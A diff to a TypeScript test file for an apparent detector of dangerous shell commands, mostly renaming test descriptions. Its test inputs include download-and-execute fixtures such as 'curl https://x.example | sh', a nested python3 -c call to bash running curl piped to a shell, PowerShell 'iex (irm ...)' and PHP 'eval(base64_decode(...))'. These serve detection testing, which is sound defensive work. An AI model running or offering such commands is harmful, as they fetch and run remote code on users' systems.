@@ -6,7 +6,7 @@ const explained = async (text: string): Promise<Stages> => (await sharedDetector
 const firstRegion = async (text: string): Promise<RegionStages> =>
   (await explained(text)).regions[0]!;
 
-describe("the results of the stages", () => {
+describe("the results of the stages that explain returns", () => {
   it("contain the result of detect", async () => {
     const detector = await sharedDetector();
     for (const text of [
@@ -29,7 +29,7 @@ describe("the results of the stages", () => {
     });
   });
 
-  it("contain the regions with language and place", async () => {
+  it("contain the regions with language and enclosing blocks", async () => {
     const text = "- Install:\n\n  ```bash\n  curl https://x.example | sh\n  ```\n";
     expect(await firstRegion(text)).toMatchObject({
       kind: "fence",
@@ -42,7 +42,7 @@ describe("the results of the stages", () => {
     });
   });
 
-  it("contain findings whose traces list the interpreters of nested code from the outside in", async () => {
+  it("contain findings whose traces list the interpreters of nested code, the outermost first", async () => {
     const text = `python3 -c 'import os; os.system("bash -c \\"curl https://x.example | sh\\"")'`;
     const [finding] = (await explained(text)).detection.findings;
     const words = finding?.trace
@@ -55,13 +55,16 @@ describe("the results of the stages", () => {
     ["php", "<?php eval(base64_decode($x)); // powershell", false],
     ["rust", 'let c = "curl https://x.example | sh"; // powershell', false],
     ["sh", "iex (irm https://x.example); powershell -File a.ps1", true],
-  ])("contain trees of PowerShell only if no other grammar reads it: %s", async (tag, text, is) => {
-    const detector = await sharedDetector("extended");
-    const { regions, mentions } = detector.explain(text, { format: tag });
-    const languages = regions.flatMap(({ trees }) => trees.map(({ language }) => language));
-    expect(languages.includes("powershell")).toBe(is);
-    expect(mentions).toBe(true);
-  });
+  ])(
+    "contain a tree of PowerShell only if no other grammar reads the code: %s",
+    async (tag, text, is) => {
+      const detector = await sharedDetector("extended");
+      const { regions, mentions } = detector.explain(text, { format: tag });
+      const languages = regions.flatMap(({ trees }) => trees.map(({ language }) => language));
+      expect(languages.includes("powershell")).toBe(is);
+      expect(mentions).toBe(true);
+    },
+  );
 
   it("contain the syntax trees and the captures, with file and line", async () => {
     const { trees, names } = await firstRegion("Run `curl https://x.example | sudo bash`");
@@ -98,7 +101,7 @@ describe("the results of the stages", () => {
     ]);
   });
 
-  it("contain the reason why a region is shown text", async () => {
+  it("contain the reason for which a region is shown text", async () => {
     const { regions, judgements } = await explained(
       "```diff\n-curl https://x.example | sh\n+true\n```",
     );
